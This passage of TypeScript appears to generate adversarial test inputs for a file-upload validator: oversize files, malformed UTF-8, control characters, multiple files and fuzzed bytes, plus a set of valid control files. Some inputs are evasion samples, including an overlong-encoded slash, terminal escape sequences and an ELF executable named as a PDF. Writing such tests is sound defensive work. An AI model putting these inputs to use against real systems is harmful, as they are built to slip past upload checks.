  for (const name of CLAIMED) add("empty", `an empty file named ${name}`, name, Buffer.alloc(0), [messages.empty]);

  // 11. Too large: just over MAX_UPLOAD_MB.
  const max = o.maxUploadBytes;
  const tooLarge = [messages.tooLarge(max)];
  for (const [over, what] of [[1, "1 byte"], [1024, "1 KB"], [300 * 1024, "300 KB (over the whole form's allowance)"], [max, "twice the limit"]] as const) {
    const base = f.pdf("Oversize");
    const body = Buffer.alloc(max + over - base.length, 0x20);
    add("oversize", `a PDF ${what} over the limit`, "account.pdf", Buffer.concat([base.subarray(0, base.length - 6), body, b("%%EOF\n")]), tooLarge);
    add("oversize", `a text file ${what} over the limit`, "notes.txt", Buffer.alloc(max + over, 0x61), tooLarge);
  }

  // 12. Text that is not UTF-8, or has control characters.
  const badText: [string, Buffer, string[]][] = [
    ["Latin-1 text", f.latin1Text(), [messages.textEncoding]],
    ["Windows-1252 smart quotes", b("He said \x93no\x94 and left \x96 twice.\n"), [messages.textEncoding]],
    ["an overlong UTF-8 slash (C0 AF)", b("path \xc0\xaf etc\n"), [messages.textEncoding]],
    ["an overlong NUL (C0 80)", b("text \xc0\x80 more\n"), [messages.textEncoding]],
    ["a UTF-8-encoded surrogate (ED A0 80)", b("text \xed\xa0\x80 more\n"), [messages.textEncoding]],
    ["a code point past U+10FFFF (F4 90 80 80)", b("text \xf4\x90\x80\x80\n"), [messages.textEncoding]],
    ["a multi-byte character cut off at the end", b("Caf\xc3"), [messages.textEncoding]],
    ["a stray continuation byte", b("Caf\x80e\n"), [messages.textEncoding]],
    ["0xFF bytes", b("notes \xff\xfe\xff\n"), [messages.textEncoding]],
    ["UTF-16 text with a byte-order mark (FF FE, which looks like an MP3 frame sync)", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("Notes from supervision", "utf16le")]), [messages.notAllowed, messages.textEncoding, messages.audioDamaged]],
    ["UTF-16BE text without a byte-order mark", Buffer.from("Notes", "utf16le").swap16(), [messages.notAllowed, messages.textEncoding]],
    ["text with a NUL byte", u8("text\0more"), not],
    ["text with an escape sequence", u8("text\x1b[2J\x1b[31mred"), not],
    ["text with a bell", u8("ding\x07\n"), not],
    ["text with a backspace", u8("secret\x08\x08\x08\x08\x08\x08public\n"), not],
    ["text with a vertical tab", u8("a\x0bb\n"), not],
    ["text with a form feed", u8("page\x0cnext page\n"), not],
    ["text with DEL", u8("a\x7fb\n"), not],
    ["text with a C1 control (U+0085) in UTF-8", u8("a\u0085b\n"), not],
    ["text with a C1 CSI (U+009B) in UTF-8", u8("a\u009b31mred\n"), not],
  ];
  for (const [what, bytes, expect] of badText) for (const name of ["notes.txt", "account.docx"]) add("text-encoding", `${what} named ${name}`, name, bytes, expect);

  // 13. More than one file.
  add("multiple", "two files in the one file field", "one.pdf", f.pdf("one"), [messages.onlyOne], { extra: [{ name: "two.pdf", bytes: f.pdf("two") }] });
  add("multiple", "a good file then an executable", "one.pdf", f.pdf("first"), [messages.onlyOne], { extra: [{ name: "two.pdf", bytes: f.elf() }] });
  add("multiple", "three files", "one.txt", u8("one"), [messages.onlyOne], { extra: [{ name: "two.txt", bytes: u8("two") }, { name: "three.txt", bytes: u8("three") }] });

  // 14. Random bytes and mutations from the seed: binary noise, and accepted types with their magic broken.
  const fuzzCount = Math.max(0, 520 - out.length) + 20;
  const bases: [string, Buffer][] = [["account.pdf", longPdf], ["diagram.png", bigPng], ["photo.jpg", jpeg], ["account.docx", docx], ["record.odt", odt], ["discussion.m4a", m4a]];
  for (let i = 0; i < fuzzCount; i++) {
    if (i % 2 === 0) {
      const n = 64 + Math.floor(random() * 4000);
      const bytes = garbage(n);
      bytes[Math.floor(random() * Math.min(n, 64))] = 0; // a NUL near the start: never text
      add("fuzz", `${n} random bytes`, CLAIMED[Math.floor(random() * CLAIMED.length)], bytes, []);
    } else {
      const [name, base] = bases[Math.floor(random() * bases.length)];
      const bytes = Buffer.from(base);
      // Break the magic number (the first four bytes) and a few more bytes anywhere.
      bytes[Math.floor(random() * 4)] ^= 1 + Math.floor(random() * 254);
      for (let k = 0; k < 4; k++) bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256);
      bytes[8 + Math.floor(random() * 8)] = 0;
      add("fuzz", `${name.split(".")[1].toUpperCase()} with its magic bytes broken and 4 random bytes changed`, name, bytes, []);
    }
  }

  if (!o.quick) return out;
  // Quick: a spread of every category.
  return out.filter((_, i) => i % 6 === 0);
}

function decodeURIComponentSafe(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

/** Good files that must be accepted: the controls. */
export function goodFiles(seed: number): GoodFile[] {
  const tag = `control ${seed}`;
  return [
    { id: "good-pdf", description: "a small valid PDF", name: "account.pdf", bytes: f.pdf(`Reflective account ${tag}`), mediaType: "application/pdf" },
    { id: "good-png", description: "a 2×2 PNG", name: "diagram.png", bytes: Buffer.concat([f.png()]), mediaType: "image/png" },
    { id: "good-jpeg", description: "an 8×8 JPEG", name: "photo of flipchart.jpg", bytes: f.jpeg(), mediaType: "image/jpeg" },
    { id: "good-text", description: "UTF-8 plain text", name: "notes.txt", bytes: u8(`Notes from supervision — ${tag}.\r\n\tSecond line.\n`), mediaType: "text/plain" },
    { id: "good-docx", description: "a Word document", name: "account.docx", bytes: f.docx([`First paragraph, ${tag}.`]), mediaType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
    { id: "good-odt", description: "an OpenDocument text", name: "record.odt", bytes: f.odt([`Observation record, ${tag}.`]), mediaType: "application/vnd.oasis.opendocument.text" },
    { id: "good-mp3", description: "an MP3 recording", name: "discussion.mp3", bytes: f.mp3(), mediaType: "audio/mpeg" },
    { id: "good-m4a", description: "an M4A recording", name: "discussion.m4a", bytes: f.m4a(), mediaType: "audio/mp4" },
  ];
}
